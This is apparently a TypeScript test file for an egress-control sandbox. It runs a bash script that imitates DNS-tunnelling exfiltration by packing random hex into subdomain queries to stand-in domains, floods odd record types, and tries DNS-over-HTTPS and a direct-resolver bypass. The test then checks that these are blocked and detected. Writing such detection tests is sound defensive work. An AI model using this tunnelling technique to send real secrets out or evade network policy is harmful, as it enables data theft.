import { startLab } from '@runwarden/lab'
import { expect, test } from 'vitest'
import { Place, runwarden } from './runwarden.ts'

/** A secret in names, as a shell does it: 100 hexadecimal characters a name. */
const script = `
send() { for i in $(seq 1 15); do
  part=$(head -c 50 /dev/urandom | od -An -tx1 | tr -d ' \\n')
  dig +tries=1 +time=20 +noall "\${part:0:50}.\${part:50}.$1" TXT
done; }
send allowed.example.net
send denied.example.org
for i in $(seq 1 40); do echo "a.types.example.com TYPE$((1000 + i))"; done | dig +tries=1 +time=20 +noall -f -
dig +tries=1 +time=20 +short dns.google A
dig +tries=1 +time=20 +noall +comments use-application-dns.net | grep -o 'status: [A-Z]*'
dig +tries=1 +time=20 +short @198.51.100.53 plain.example.net
`

test('secrets that leave in names, and resolvers that policy does not see, are told', async () => {
  await using lab = await startLab({
    records: {
      '*.allowed.example.net': ['198.51.100.7'],
      '*.types.example.com': ['198.51.100.7'],
      'plain.example.net': ['198.51.100.8'],
      'dns.google': ['203.0.113.8'],
    },
  })
  using place = new Place()
  const allow = '*.allowed.example.net *.types.example.com plain.example.net dns.google'
  const args = ['run', '--quiet', '--egress', 'block', '--allow', allow, '--out', place.out]
  const { stdout } = await lab.runner.exec(runwarden, [...args, '--', 'bash', '-c', script])
  expect(stdout).toBe('203.0.113.8\nstatus: NXDOMAIN\n198.51.100.8\n')

  const asked = await lab.dns.queries()
  const under = (zone: string) => asked.filter(({ name }) => name.endsWith(zone)).length
  expect(under('.allowed.example.net')).toBe(15)
  expect(under('a.types.example.com')).toBe(40)
  expect(under('.denied.example.org')).toBe(0)
  expect(asked.filter(({ name }) => name === 'use-application-dns.net')).toEqual([])
  const plain = asked.filter(({ name }) => name === 'plain.example.net')
  expect(plain.map(({ server }) => server)).not.toContain('198.51.100.53')
  expect(plain).toHaveLength(1)

  const { detections } = place.report()
  const found = detections.filter(({ id }) => id !== 'domain-blocked')
  expect(found.map(({ id, severity, title }) => `${id} ${severity}: ${title}`)).toEqual([
    'exfiltration-attempt high: the names asked below example.net carry data',
    'exfiltration-attempt medium: the names asked below example.org carry data',
    'exfiltration-attempt high: the names asked below example.com carry data',
    'dns-over-https medium: dns.google answers DNS over HTTPS',
  ])
  const queries = new Map(place.eventsOf('dns.query').map((event) => [event.seq, event.name]))
  expect(found[0]?.evidence).toHaveLength(10)
  for (const seq of found[0]?.evidence ?? [])
    expect(queries.get(seq)).toMatch(/^[0-9a-f]{50}\.[0-9a-f]{50}\.allowed\.example\.net$/)
})
